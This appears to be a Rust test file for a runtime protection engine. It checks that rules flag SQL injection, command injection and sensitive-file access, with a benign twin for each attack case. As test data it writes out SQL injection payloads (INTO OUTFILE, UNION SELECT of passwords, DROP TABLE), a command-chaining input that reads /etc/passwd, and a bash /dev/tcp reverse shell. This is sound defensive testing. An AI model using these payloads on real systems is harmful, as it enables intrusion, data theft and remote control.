//! Rule evaluation in checks (docs/rules.md §4.2, §4.3, §4.5): every `when` kind, the SQL
//! literal rule, input signatures and their confidence, the event fields, and the repository's
//! own rules. Every attack case has a benign twin. Rule sets are compiled from
//! `tests/fixtures/eval/` and loaded with each backend this build has.

use std::path::{Path, PathBuf};
use std::sync::{Arc, LazyLock};

use rasp_engine::cmd::CommandLine;
use rasp_engine::engine::{Explanation, FindingReport};
use rasp_engine::input::{Input, InputSource};
use rasp_engine::path::PathOp;
use rasp_engine::rules::{compile_dir, BackendChoice, RuleSet, Severity};
use rasp_engine::sql::Dialect;
use rasp_engine::verdict::Confidence;
use rasp_engine::{
    Action, CommandSink, ContextLimits, Engine, EngineConfig, PathSink, Policy, RequestContext,
    SqlApi, SqlSink,
};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/eval")
        .join(name)
}

fn compiled(dir: &Path) -> Vec<u8> {
    match compile_dir(dir) {
        Ok(c) => c.bytes,
        Err(diagnostics) => {
            let lines: Vec<String> = diagnostics.iter().map(ToString::to_string).collect();
            panic!("{} does not compile:\n{}", dir.display(), lines.join("\n"))
        }
    }
}

static EVAL: LazyLock<Vec<u8>> = LazyLock::new(|| compiled(&fixture("rules")));
static OTHER: LazyLock<Vec<u8>> = LazyLock::new(|| compiled(&fixture("other")));
static REPO: LazyLock<Vec<u8>> =
    LazyLock::new(|| compiled(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules")));

/// Auto (Hyperscan where it runs) and the portable DFA: both must decide the same.
const BACKENDS: [BackendChoice; 2] = [BackendChoice::Auto, BackendChoice::Portable];

fn engine_with(bytes: &[u8], choice: BackendChoice, config: &str) -> Engine {
    let set = RuleSet::load(bytes, choice).expect("fixture loads");
    let config = EngineConfig::parse(config).expect("valid config");
    Engine::with_rules(config, Arc::new(set)).expect("rule ids exist")
}

fn engines(config: &str) -> Vec<Engine> {
    BACKENDS
        .iter()
        .map(|&c| engine_with(&EVAL, c, config))
        .collect()
}

fn query(params: &[(&str, &str)]) -> RequestContext {
    RequestContext::from_inputs(
        params
            .iter()
            .map(|(n, v)| Input::value(InputSource::Query, *n, *v))
            .collect(),
        ContextLimits::default(),
    )
}

fn no_request() -> RequestContext {
    query(&[])
}

fn explain_sql(e: &Engine, ctx: &RequestContext, dialect: Dialect, sql: &str) -> Explanation {
    let sink = SqlSink {
        dialect,
        api: SqlApi::ExecuteQuery,
        statement: sql.as_bytes(),
    };
    let explanation = e.explain_sql(ctx, &sink);
    // The check and the explanation decide alike.
    let verdict = e.check_sql(ctx, &sink);
    assert_eq!(
        verdict.action, explanation.verdict.action,
        "check and explain on {sql}"
    );
    assert_eq!(
        verdict.event.as_ref().map(|e| e.rule_id.clone()),
        explanation
            .verdict
            .event
            .as_ref()
            .map(|e| e.rule_id.clone())
    );
    explanation
}

fn explain_cmd(e: &Engine, ctx: &RequestContext, argv: &[&str]) -> Explanation {
    let command = CommandLine {
        argv: argv.iter().map(|a| a.to_string()).collect(),
        env: Vec::new(),
    };
    let sink = CommandSink {
        api: 1,
        command: &command,
    };
    let explanation = e.explain_command(ctx, &sink);
    assert_eq!(
        e.check_command(ctx, &sink).action,
        explanation.verdict.action
    );
    explanation
}

fn explain_path(e: &Engine, ctx: &RequestContext, path: &str) -> Explanation {
    let sink = PathSink {
        api: 0,
        op: PathOp::Read,
        path: path.as_bytes(),
    };
    let explanation = e.explain_path(ctx, &sink);
    assert_eq!(e.check_path(ctx, &sink).action, explanation.verdict.action);
    explanation
}

fn finding<'a>(x: &'a Explanation, rule: &str) -> Option<&'a FindingReport> {
    x.findings.iter().find(|f| f.rule_id == rule)
}

fn ids(x: &Explanation) -> Vec<&str> {
    x.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

fn spanned<'a>(sink: &'a str, f: &FindingReport) -> &'a str {
    let span = f.span.expect("finding has a span");
    &sink[span.start..span.end]
}

// ---- when = "input-overlaps" (sql) and the SQL literal rule --------------------------------

#[test]
fn into_outfile_typed_into_a_numeric_position_fires_the_overlap_rule() {
    for e in engines("") {
        let input = "1 INTO OUTFILE '/tmp/x'";
        let sql = "SELECT * FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        let f = finding(&x, "test.sql.outfile").expect("the rule fires");
        assert!(f.from_rule_file);
        assert_eq!(f.confidence, Confidence::High);
        assert_eq!(f.policy, Policy::Block);
        assert_eq!(f.severity, Some(Severity::Critical));
        assert_eq!(spanned(sql, f), "INTO OUTFILE");
        assert_eq!(f.input, Some(0));
        assert!(f.why.contains("input query:id"), "{}", f.why);
        assert_eq!(x.verdict.action, Action::Block);

        // Benign twin: the application's own export, the input is only the date.
        let sql = "SELECT * FROM t WHERE d = '2024-01-01' INTO OUTFILE '/tmp/x'";
        let x = explain_sql(&e, &query(&[("d", "2024-01-01")]), Dialect::MySql, sql);
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
        assert_eq!(x.verdict.action, Action::Allow);
    }
}

#[test]
fn into_outfile_inside_a_quoted_literal_is_data() {
    for e in engines("") {
        // A search box: the words reach the statement inside one string literal.
        let sql = "SELECT * FROM posts WHERE body LIKE '%into outfile%'";
        let x = explain_sql(&e, &query(&[("q", "%into outfile%")]), Dialect::MySql, sql);
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
        assert_eq!(x.verdict.action, Action::Allow);
        // Also inside a comment and a quoted identifier, in every dialect's reading.
        for (dialect, sql) in [
            (
                Dialect::PostgreSql,
                "SELECT \"into outfile\" FROM t WHERE a = 'x y'",
            ),
            (
                Dialect::MySql,
                "SELECT a FROM t WHERE a = 'x y' -- into outfile",
            ),
            (
                Dialect::Generic,
                "SELECT a /* into outfile */ FROM t WHERE a = 'x y'",
            ),
        ] {
            let x = explain_sql(&e, &query(&[("q", "x y")]), dialect, sql);
            assert!(finding(&x, "test.sql.outfile").is_none(), "{sql}");
        }
        // Attack twin: the input closes the literal and the clause is code.
        let input = "x' INTO OUTFILE '/tmp/x";
        let sql = "SELECT * FROM posts WHERE body LIKE 'x' INTO OUTFILE '/tmp/x'";
        let x = explain_sql(&e, &query(&[("q", input)]), Dialect::MySql, sql);
        assert!(finding(&x, "test.sql.outfile").is_some(), "{:?}", ids(&x));
        assert_eq!(x.verdict.action, Action::Block);
    }
}

#[test]
fn a_generic_statement_is_read_as_mysql_too_before_calling_a_match_data() {
    for e in engines("") {
        // Standard SQL ends the literal at \' (the clause is code); MySQL reads one literal.
        let input = r"x\' INTO OUTFILE '/tmp/x' -- ";
        let sql = r"SELECT * FROM t WHERE a = 'x\' INTO OUTFILE '/tmp/x' -- '";
        let generic = explain_sql(&e, &query(&[("q", input)]), Dialect::Generic, sql);
        assert!(finding(&generic, "test.sql.outfile").is_some());
        let postgres = explain_sql(&e, &query(&[("q", input)]), Dialect::PostgreSql, sql);
        assert!(finding(&postgres, "test.sql.outfile").is_some());
        let mysql = explain_sql(&e, &query(&[("q", input)]), Dialect::MySql, sql);
        assert!(finding(&mysql, "test.sql.outfile").is_none());
    }
}

/// The engine keeps a statement's sink-rule hits and tokens once it has seen it twice; the
/// conditions are still each request's. Every step must explain as a fresh engine does.
#[test]
fn a_statement_checked_again_is_judged_by_each_requests_own_inputs() {
    for (warm, choice) in engines("").into_iter().zip(BACKENDS) {
        let sql = "SELECT * FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'";
        let steps: [(&str, Option<&str>); 6] = [
            ("1 INTO OUTFILE '/tmp/x'", Some("test.sql.outfile")),
            ("1 INTO OUTFILE '/tmp/x'", Some("test.sql.outfile")),
            ("1 INTO OUTFILE '/tmp/x'", Some("test.sql.outfile")),
            // In the literal only: no overlap with the match, and data to the detector.
            ("/tmp/x", None),
            ("x y", None),
            ("1 INTO OUTFILE '/tmp/x'", Some("test.sql.outfile")),
        ];
        // The generic dialect reads the statement twice (its own reading and MySQL's), and the
        // cache keeps both.
        for dialect in [Dialect::MySql, Dialect::Generic] {
            for (input, fires) in steps {
                let ctx = query(&[("id", input)]);
                let x = explain_sql(&warm, &ctx, dialect, sql);
                let fresh = engine_with(&EVAL, choice, "");
                let expected = explain_sql(&fresh, &ctx, dialect, sql);
                let case = format!("{dialect} {input:?}");
                assert_eq!(ids(&x), ids(&expected), "{case}");
                assert_eq!(x.verdict.action, expected.verdict.action, "{case}");
                let fired = finding(&x, "test.sql.outfile").is_some();
                assert_eq!(fired, fires.is_some(), "{case}");
            }
        }
    }
}

// ---- when = "input-present" ----------------------------------------------------------------

#[test]
fn input_present_needs_the_match_in_code_and_some_input_in_the_statement() {
    for e in engines("") {
        let sql = "SELECT SLEEP(5) FROM t WHERE name = 'a b'";
        let x = explain_sql(&e, &query(&[("name", "a b")]), Dialect::MySql, sql);
        let f = finding(&x, "test.sql.sleep").expect("fires");
        assert_eq!(f.confidence, Confidence::Medium);
        assert_eq!(f.policy, Policy::Monitor, "the rule's own mode");
        assert_eq!(spanned(sql, f), "SLEEP(");
        assert_eq!(x.verdict.action, Action::Monitor);
        let event = x.verdict.event.as_ref().expect("event");
        assert_eq!(event.rule_id, "test.sql.sleep");
        assert_eq!(event.confidence, "medium");

        // Benign twins: no input in the statement; the call only inside a literal.
        let x = explain_sql(&e, &query(&[("name", "c d")]), Dialect::MySql, sql);
        assert_eq!(x.verdict.action, Action::Allow);
        assert!(x.findings.is_empty());
        let sql = "SELECT a FROM t WHERE note = 'sleep(5)' AND name = 'a b'";
        let x = explain_sql(&e, &query(&[("name", "a b")]), Dialect::MySql, sql);
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
    }
}

// ---- when = "always" -------------------------------------------------------------------------

#[test]
fn always_rules_fire_without_input() {
    for e in engines("") {
        let x = explain_sql(&e, &no_request(), Dialect::MySql, "SELECT @@version");
        let f = finding(&x, "test.sql.version").expect("fires");
        assert_eq!(f.confidence, Confidence::High);
        assert_eq!(f.input, None);
        assert_eq!(x.verdict.action, Action::Block);
        let x = explain_sql(
            &e,
            &no_request(),
            Dialect::MySql,
            "SELECT version FROM releases",
        );
        assert_eq!(x.verdict.action, Action::Allow);
        assert!(x.findings.is_empty());
    }
}

#[test]
fn a_rule_whose_own_mode_is_off_reports_but_allows() {
    for e in engines("") {
        let x = explain_sql(
            &e,
            &no_request(),
            Dialect::MySql,
            "SELECT BENCHMARK(10, MD5('x'))",
        );
        let f = finding(&x, "test.sql.benchmark").expect("reported");
        assert_eq!(f.policy, Policy::Allow);
        assert_eq!(x.verdict.action, Action::Allow);
    }
}

#[test]
fn command_rules_run_outside_requests_and_on_every_sink_they_name() {
    for e in engines("") {
        let x = explain_cmd(&e, &no_request(), &["cat", "/etc/shadow"]);
        let f = finding(&x, "test.cmd.shadow").expect("fires");
        assert_eq!(f.category, "cmdi");
        assert_eq!(f.message, "A process or file access touches /etc/shadow");
        assert_eq!(x.verdict.action, Action::Block);
        assert_eq!(
            explain_cmd(&e, &no_request(), &["cat", "/etc/hosts"])
                .verdict
                .action,
            Action::Allow
        );
        // The same rule names path sinks too.
        let x = explain_path(&e, &no_request(), "/etc/shadow");
        assert!(finding(&x, "test.cmd.shadow").is_some());
        assert_eq!(
            explain_path(&e, &no_request(), "/etc/passwd")
                .verdict
                .action,
            Action::Allow
        );
    }
}

#[test]
fn path_overlap_rules_need_the_input_on_the_match() {
    for e in engines("") {
        let path = "/home/app/.ssh/id_rsa";
        let x = explain_path(&e, &query(&[("f", ".ssh/id_rsa")]), path);
        let f = finding(&x, "test.path.ssh").expect("fires");
        assert_eq!(spanned(path, f), ".ssh/id_rsa");
        assert_eq!(x.verdict.action, Action::Block);
        // Benign twin: the input is elsewhere in the path.
        let x = explain_path(&e, &query(&[("user", "app-1")]), "/home/app-1/.ssh/id_rsa");
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
    }
}

// ---- input signatures --------------------------------------------------------------------------

#[test]
fn a_signature_input_that_reached_the_statement_lowercased_fires_with_medium_confidence() {
    for e in engines("") {
        let input = "1 UNION SELECT pass FROM users";
        let sql = "SELECT a FROM t WHERE id = 1 union select pass from users";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        let f = finding(&x, "test.sig.union").expect("fires");
        assert_eq!(f.confidence, Confidence::Medium);
        assert_eq!(spanned(sql, f), "1 union select pass from users");
        assert_eq!(x.verdict.action, Action::Block);
        assert!(f.why.contains("normalisation"), "{}", f.why);

        // Benign twin: the same words, lowercased into a literal.
        let sql = "SELECT a FROM t WHERE name = 'credit union select club'";
        let x = explain_sql(
            &e,
            &query(&[("name", "Credit Union Select Club")]),
            Dialect::MySql,
            sql,
        );
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
    }
}

#[test]
fn a_signature_input_that_reached_the_statement_decoded_fires_with_medium_confidence() {
    for e in engines("") {
        // The application unescapes HTML before building the statement.
        let input = "x&#39; UNION SELECT pass FROM users--";
        let sql = "SELECT a FROM t WHERE name = 'x' UNION SELECT pass FROM users--'";
        let x = explain_sql(&e, &query(&[("name", input)]), Dialect::MySql, sql);
        let f = finding(&x, "test.sig.union").expect("fires");
        assert_eq!(f.confidence, Confidence::Medium);
        assert_eq!(spanned(sql, f), "x' UNION SELECT pass FROM users--");

        // Benign twin: decoded too, but escaped into the literal.
        let sql = "SELECT a FROM t WHERE name = 'x'' UNION SELECT pass FROM users--'";
        let x = explain_sql(&e, &query(&[("name", input)]), Dialect::MySql, sql);
        assert!(finding(&x, "test.sig.union").is_none(), "{:?}", ids(&x));
        assert_eq!(x.verdict.action, Action::Allow);
    }
}

#[test]
fn a_signature_input_that_reached_the_statement_trimmed_and_respaced_fires_with_medium_confidence()
{
    for e in engines("") {
        let input = "  1   UNION\tSELECT pass  FROM users ";
        let sql = "SELECT a FROM t WHERE id = 1 UNION SELECT pass FROM users";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        let f = finding(&x, "test.sig.union").expect("fires");
        assert_eq!(f.confidence, Confidence::Medium);
        // Benign twin: the input went somewhere else.
        let x = explain_sql(
            &e,
            &query(&[("id", input)]),
            Dialect::MySql,
            "SELECT a FROM t WHERE id = 1",
        );
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
    }
}

#[test]
fn a_signature_in_both_input_and_statement_fires_with_low_confidence() {
    for e in engines("") {
        // The application rewrote the spaces as comments: the input is not seen in the
        // statement, but the statement carries the same signature.
        let input = "1 UNION SELECT pass FROM users";
        let sql = "SELECT a FROM t WHERE id = 1/**/UNION/**/SELECT/**/pass/**/FROM/**/users";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        let f = finding(&x, "test.sig.union").expect("fires");
        assert_eq!(f.confidence, Confidence::Low);
        assert_eq!(spanned(sql, f), "UNION/**/SELECT");
        assert_eq!(
            x.verdict.action,
            Action::Monitor,
            "a finding that does not tie the input to the statement only monitors by default"
        );
        // Benign twins: the statement lacks the signature, or has it only in a literal.
        let x = explain_sql(
            &e,
            &query(&[("id", input)]),
            Dialect::MySql,
            "SELECT a FROM t WHERE id = 1",
        );
        assert!(x.findings.is_empty());
        let sql = "SELECT a FROM t WHERE note = 'union/**/select' AND id = 1";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
    }
}

#[test]
fn a_low_confidence_signature_blocks_only_when_its_rule_mode_says_so() {
    let input = "1 UNION SELECT pass FROM users";
    let sql = "SELECT a FROM t WHERE id = 1/**/UNION/**/SELECT/**/pass/**/FROM/**/users";
    for e in engines("rules.mode.test.sig.union=block") {
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        assert_eq!(
            finding(&x, "test.sig.union").map(|f| f.confidence),
            Some(Confidence::Low)
        );
        assert_eq!(x.verdict.action, Action::Block);
    }
}

#[test]
fn the_statements_own_text_never_stands_in_for_the_input() {
    // The default rules: sig.sqli.tautology matches the input, and also the application's
    // own `' AND PASSWORD = '` after it replaced the input with a constant.
    let e = engine_with(&REPO, BackendChoice::Auto, "");
    let input = "x' OR '1'='1";
    for sql in [
        "SELECT * FROM users WHERE username = 'admin' AND PASSWORD = '5f4dcc3b5aa765d6'",
        "SELECT * FROM users WHERE name = 'erin' AND role <> 'locked'",
    ] {
        let x = explain_sql(&e, &query(&[("password", input)]), Dialect::MySql, sql);
        assert!(x.findings.is_empty(), "{sql}: {:?}", ids(&x));
        assert_eq!(x.verdict.action, Action::Allow);
    }
    // Twin: the input transformed on its way (the application turned its quotes into
    // doubled ones and back, say), still sharing its content with the match.
    let sql = "SELECT * FROM users WHERE username = 'x'   Or '1' = '1'";
    let x = explain_sql(&e, &query(&[("password", input)]), Dialect::MySql, sql);
    assert!(finding(&x, "sig.sqli.tautology").is_some(), "{:?}", ids(&x));
}

#[test]
fn a_verbatim_input_is_left_to_the_structural_detectors() {
    for e in engines("") {
        let input = "1 UNION SELECT pass FROM users";
        let sql = "SELECT a FROM t WHERE id = 1 UNION SELECT pass FROM users";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        assert!(finding(&x, "test.sig.union").is_none(), "{:?}", ids(&x));
        assert_eq!(ids(&x), ["sqli.union"]);
        assert_eq!(x.verdict.action, Action::Block);
        // A derived form found verbatim counts too: the container gave `%20`, the agent
        // decoded it again, the application did the same.
        let raw = "1%20UNION%20SELECT%20pass%20FROM%20users";
        let ctx = RequestContext::new(
            &rasp_engine::wire::RequestRecord {
                method: "GET".into(),
                uri: "/items".into(),
                query: format!("id={}", raw.replace('%', "%25")).into(),
                ..Default::default()
            },
            ContextLimits::default(),
        );
        let x = explain_sql(&e, &ctx, Dialect::MySql, sql);
        assert!(finding(&x, "test.sig.union").is_none(), "{:?}", ids(&x));
        assert!(finding(&x, "sqli.union").is_some(), "{:?}", ids(&x));
    }
}

/// A request's first check does not scan the input signatures of the inputs it found verbatim
/// in its statement (their hits are left to the detectors there); a later check of the same
/// request where that input arrives transformed scans it then, and fires as a request whose
/// first check it is does.
#[test]
fn an_input_unscanned_at_a_verbatim_check_is_scanned_when_a_later_check_needs_it() {
    for e in engines("") {
        let input = "1 UNION SELECT pass FROM users";
        let verbatim = "SELECT a FROM t WHERE id = 1 UNION SELECT pass FROM users";
        let lowered = "SELECT a FROM t WHERE id = 1 union select pass from users";
        let ctx = query(&[("id", input)]);
        let x = explain_sql(&e, &ctx, Dialect::MySql, verbatim);
        assert_eq!(ids(&x), ["sqli.union"], "verbatim: the detector's");
        for nth in 1..=2 {
            let x = explain_sql(&e, &ctx, Dialect::MySql, lowered);
            let f = finding(&x, "test.sig.union").expect("the later check scans the input");
            assert_eq!(f.confidence, Confidence::Medium, "check {nth}");
            assert_eq!(x.verdict.action, Action::Block, "check {nth}");
        }
        let first = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, lowered);
        let again = explain_sql(&e, &ctx, Dialect::MySql, lowered);
        assert_eq!(ids(&first), ids(&again), "as on a request's first check");
        // And the other way round: scanned whole at a check it does not reach verbatim, then left
        // to the detector where it does.
        let ctx = query(&[("id", input)]);
        assert!(finding(
            &explain_sql(&e, &ctx, Dialect::MySql, lowered),
            "test.sig.union"
        )
        .is_some());
        assert_eq!(
            ids(&explain_sql(&e, &ctx, Dialect::MySql, verbatim)),
            ["sqli.union"]
        );
    }
}

#[test]
fn command_signatures_see_trimmed_and_lowercased_input() {
    for e in engines("") {
        let input = "  127.0.0.1;   CAT /etc/passwd ";
        let argv = ["sh", "-c", "ping -c 1 127.0.0.1; cat /etc/passwd"];
        let x = explain_cmd(&e, &query(&[("host", input)]), &argv);
        let f = finding(&x, "test.sig.chain").expect("fires");
        assert_eq!(f.confidence, Confidence::Medium);
        assert_eq!(x.verdict.action, Action::Block);
        // Benign twin: a plain host.
        let x = explain_cmd(
            &e,
            &query(&[("host", " 127.0.0.1 ")]),
            &["sh", "-c", "ping -c 1 127.0.0.1"],
        );
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
        // Signatures are per sink kind: the sql rule does not fire for commands.
        let x = explain_cmd(
            &e,
            &query(&[("q", "1 UNION SELECT pass FROM users")]),
            &["echo", "1", "union", "select", "pass", "from", "users"],
        );
        assert!(finding(&x, "test.sig.union").is_none());
    }
}

#[test]
fn cached_signature_hits_never_answer_for_another_rule_set() {
    for choice in BACKENDS {
        let eval = engine_with(&EVAL, choice, "");
        let other = engine_with(&OTHER, choice, "");
        let ctx = query(&[("id", "1; DROP TABLE users")]);
        let sql = "SELECT a FROM t WHERE id = 1; drop table users";
        // The first engine's set fills the context's cache; it has no DROP signature.
        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql)
            .findings
            .is_empty());
        let x = explain_sql(&other, &ctx, Dialect::MySql, sql);
        let f = finding(&x, "other.sig.drop").expect("the other set's signature fires");
        assert_eq!(f.confidence, Confidence::Medium);
        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql)
            .findings
            .is_empty());
        // And the other way round, on a fresh context.
        let ctx = query(&[("id", "1; DROP TABLE users")]);
        assert!(finding(
            &explain_sql(&other, &ctx, Dialect::MySql, sql),
            "other.sig.drop"
        )
        .is_some());
        assert!(explain_sql(&eval, &ctx, Dialect::MySql, sql)
            .findings
            .is_empty());
    }
}

#[test]
fn a_set_without_always_rules_still_scans_sinks_that_contain_input() {
    for choice in BACKENDS {
        let other = engine_with(&OTHER, choice, "");
        let sql = "SELECT a FROM t WHERE id = 1 AND SLEEP(5)";
        let x = explain_sql(
            &other,
            &query(&[("id", "1 AND SLEEP(5)")]),
            Dialect::MySql,
            sql,
        );
        assert!(finding(&x, "other.sql.sleep").is_some(), "{:?}", ids(&x));
        // Benign twins: the application's own SLEEP, with and without input elsewhere.
        let sql = "SELECT SLEEP(5) FROM t WHERE name = 'a b'";
        assert!(explain_sql(&other, &no_request(), Dialect::MySql, sql)
            .findings
            .is_empty());
        let x = explain_sql(&other, &query(&[("name", "a b")]), Dialect::MySql, sql);
        assert!(x.findings.is_empty(), "{:?}", ids(&x));
    }
}

// ---- events ------------------------------------------------------------------------------------

#[test]
fn events_name_the_rule_set_and_the_other_rules() {
    let set = RuleSet::load(&EVAL, BackendChoice::Auto).expect("loads");
    let set_id = set.id().to_owned();
    assert!(set_id.starts_with("eval-fixture@1.0.0+"), "{set_id}");
    let e = Engine::with_rules(EngineConfig::default(), Arc::new(set)).expect("valid");
    // The input is the clause (built-in detector and overlap rule) in a statement that also
    // sleeps (input-present rule, monitor).
    let input = "1 INTO OUTFILE '/tmp/x'";
    let sql = "SELECT SLEEP(1) FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'";
    let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
    let builtin = &x.findings[0];
    assert!(
        !builtin.from_rule_file && builtin.rule_id.starts_with("sqli."),
        "{:?}",
        ids(&x)
    );
    assert_eq!(builtin.severity, None);
    let event = x.verdict.event.as_ref().expect("event");
    assert_eq!(
        event.rule_id, builtin.rule_id,
        "ties go to the built-in detector"
    );
    assert_eq!(event.rule_set, set_id);
    assert_eq!(
        event.other_rules,
        ["test.sql.outfile", "test.sql.sleep"],
        "block before monitor"
    );
    let json = serde_json::to_value(event.as_ref()).expect("serializes");
    assert_eq!(json["rule_set"], set_id.as_str());
    assert_eq!(json["other_rules"][0], "test.sql.outfile");

    // A rule file finding's event carries the rule's category and message.
    let x = explain_sql(&e, &no_request(), Dialect::MySql, "SELECT @@version");
    let event = x.verdict.event.as_ref().expect("event");
    assert_eq!(event.rule_id, "test.sql.version");
    assert_eq!(event.category, "sqli");
    assert_eq!(event.message, "A statement reads the server version");
    assert_eq!(event.confidence, "high");
    assert!(event.other_rules.is_empty());
    assert_eq!(event.sink.marked.as_deref(), Some("SELECT >>>@@version<<<"));

    // Without a rule set the event says so.
    let plain = Engine::new(EngineConfig::default());
    let v = plain.check_sql(
        &query(&[("id", "1 OR 1=1")]),
        &SqlSink {
            dialect: Dialect::MySql,
            api: SqlApi::ExecuteQuery,
            statement: b"SELECT a FROM t WHERE id = 1 OR 1=1",
        },
    );
    let event = v.event.expect("event");
    assert_eq!(event.rule_set, "none");
    assert!(event.other_rules.is_empty());
}

// ---- the repository's rules ----------------------------------------------------------------

fn repo_engine(choice: BackendChoice) -> Engine {
    engine_with(&REPO, choice, "")
}

#[test]
fn repository_rules_tell_a_search_box_from_a_file_write() {
    for choice in BACKENDS {
        let e = repo_engine(choice);
        let sql = "SELECT * FROM posts WHERE body LIKE '%into outfile%'";
        let x = explain_sql(&e, &query(&[("q", "%into outfile%")]), Dialect::MySql, sql);
        assert_eq!(x.verdict.action, Action::Allow, "{:?}", ids(&x));
        let input = "1 INTO OUTFILE '/tmp/x'";
        let sql = "SELECT * FROM t WHERE id = 1 INTO OUTFILE '/tmp/x'";
        let x = explain_sql(&e, &query(&[("id", input)]), Dialect::MySql, sql);
        assert!(
            finding(&x, "sql.policy.file_write").is_some(),
            "{:?}",
            ids(&x)
        );
        assert_eq!(x.verdict.action, Action::Block);
    }
}

#[test]
fn repository_signatures_catch_a_lowercased_union() {
    for choice in BACKENDS {
        let e = repo_engine(choice);
        let input = "X' UNION SELECT username, password FROM users-- ";
        let sql = "SELECT name FROM products WHERE category = 'x' union select username, password from users-- '";
        let x = explain_sql(&e, &query(&[("category", input)]), Dialect::MySql, sql);
        let f = finding(&x, "sig.sqli.union").expect("fires");
        assert_eq!(f.confidence, Confidence::Medium);
        assert_eq!(x.verdict.action, Action::Block);
        let sql = "SELECT * FROM branches WHERE name = 'credit union selection guide'";
        let x = explain_sql(
            &e,
            &query(&[("q", "Credit Union Selection Guide")]),
            Dialect::MySql,
            sql,
        );
        assert_eq!(x.verdict.action, Action::Allow, "{:?}", ids(&x));
    }
}

#[test]
fn repository_command_rules_apply_outside_requests() {
    for choice in BACKENDS {
        let e = repo_engine(choice);
        let x = explain_cmd(
            &e,
            &no_request(),
            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        );
        assert_eq!(x.verdict.action, Action::Block);
        let event = x.verdict.event.as_ref().expect("event");
        assert!(
            event.rule_id == "cmd.policy.dev_tcp_shell"
                || event
                    .other_rules
                    .iter()
                    .any(|r| r == "cmd.policy.dev_tcp_shell"),
            "{:?}",
            ids(&x)
        );
        let x = explain_cmd(&e, &no_request(), &["bash", "-c", "ls -l /var/log"]);
        assert_eq!(x.verdict.action, Action::Allow, "{:?}", ids(&x));
    }
}
